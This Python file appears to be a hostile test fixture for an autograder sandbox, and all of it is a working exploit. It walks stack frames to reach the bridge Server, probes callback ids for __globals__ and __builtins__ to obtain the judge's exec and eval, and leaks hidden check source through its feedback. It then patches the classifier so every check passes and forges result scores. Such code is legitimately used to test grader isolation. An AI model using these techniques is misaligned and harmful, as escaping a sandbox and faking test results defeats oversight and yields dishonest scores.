"""Reaches into the judge through the bridge's callbacks, to score itself and to leak the checks.

The jail's stand-in for a function a check passes in (numerical_jacobian's f) leads to the bridge's
Server (it is on the call stack), whose call_back() asks the judge about any object it ever handed
over (ids are small integers). For every id it asks for the attributes that lead from a function
to the rest of the judge (``__globals__``, ``__builtins__``, ``__code__``, ``__class__``, ...),
calls what it gets with a probe, and looks for the judge's ``exec`` / ``eval``. With them it would,
at its first call, have the judge read grader/checks/linear_algebra.py and raise with a slice of
it (hidden-check source in its own feedback); at every later call have the judge replace
``grader.plugin.classify`` (every check "passed") and wrap the result sink (68000 points a
check). Bounded: each id (at most 64) is probed once per jail. Implements nothing: must score 0,
and its feedback must hold no line of the hidden checks.
"""
import sys

HOSTILE = globals().get("HOSTILE", {"token": "t"})
NAMES = ("__globals__", "__builtins__", "__code__", "__closure__", "__class__", "__dict__", "__module__",
         "__self__", "__func__", "__wrapped__", "func_globals", "f_globals", "gi_frame", "__reduce_ex__")
READ = ("__import__('grader.catalogue', fromlist=['HIDDEN_CHECKS']).HIDDEN_CHECKS"
        ".joinpath('linear_algebra.py').read_text()")
PATCH = """
import grader.plugin as _plugin
if not getattr(_plugin, "_hostile", False):
    _plugin._hostile = True
    _plugin.classify = lambda item, excinfo, report: ("passed", "", [])
    _send = _plugin.sink
    def _forge(event, _send=_send):
        if isinstance(event, dict) and event.get("event") == "result":
            event = dict(event, status="passed", message="", score=68000.0)
        _send(event)
    _plugin.sink = _forge
"""
_calls = []


def _server():
    frame = sys._getframe(1)
    while frame is not None:
        candidate = frame.f_locals.get("self")
        if type(candidate).__name__ == "Server" and hasattr(candidate, "call_back"):
            return candidate
        frame = frame.f_back
    return None


def _ask(server, ident, kind, name=None, args=()):
    try:
        return server.call_back(ident, kind, name, args, {})
    except BaseException:
        return None


def _builtins_in(value, server):
    """exec and eval of the judge, if value leads to them."""
    if isinstance(value, dict):
        if "exec" in value and "eval" in value:
            return value["exec"], value["eval"]
        if "__builtins__" in value:
            return _builtins_in(value["__builtins__"], server)
    ident = getattr(value, "_id", None)
    if isinstance(ident, int):
        found = [_ask(server, ident, "getattr", name) for name in ("exec", "eval")]
        if all(callable(f) for f in found):
            return tuple(found)
    return None


_probed = set()  # ids already tried in this jail: each is probed once
_found = []


def _judge(server):
    misses = 0
    for ident in range(1, 64):
        if ident in _probed:
            continue
        if _ask(server, ident, "getattr", "__name__") is None:  # no such id (yet)
            misses += 1
            if misses >= 3:
                break
            continue
        _probed.add(ident)
        for name in NAMES:
            value = _ask(server, ident, "getattr", name)
            found = _builtins_in(value, server) if value is not None else None
            if found:
                return found
        for probe in ((), ({"__class__": 1},), (HOSTILE["token"],)):
            found = _builtins_in(_ask(server, ident, "call", None, probe), server)
            if found:
                return found
    return None


def _kata(*args, **kwargs):
    server = _server()
    if not _found and server is not None:
        found = _judge(server)
        if found:
            _found.append(found)
    if not _found:
        raise RuntimeError("no way into the judge")
    run, evaluate = _found[0]
    _calls.append(1)
    if len(_calls) == 1:
        source = evaluate(READ)
        start = source.find("\ndef test_") + 1
        raise RuntimeError(source[start:start + 280])
    run(PATCH)
    raise RuntimeError("the judge runs my code now")


lu_solve = gram_schmidt_qr = power_iteration = low_rank_approx = numerical_jacobian = _kata
grad_least_squares = grad_quadratic_form = softmax_jacobian = _kata
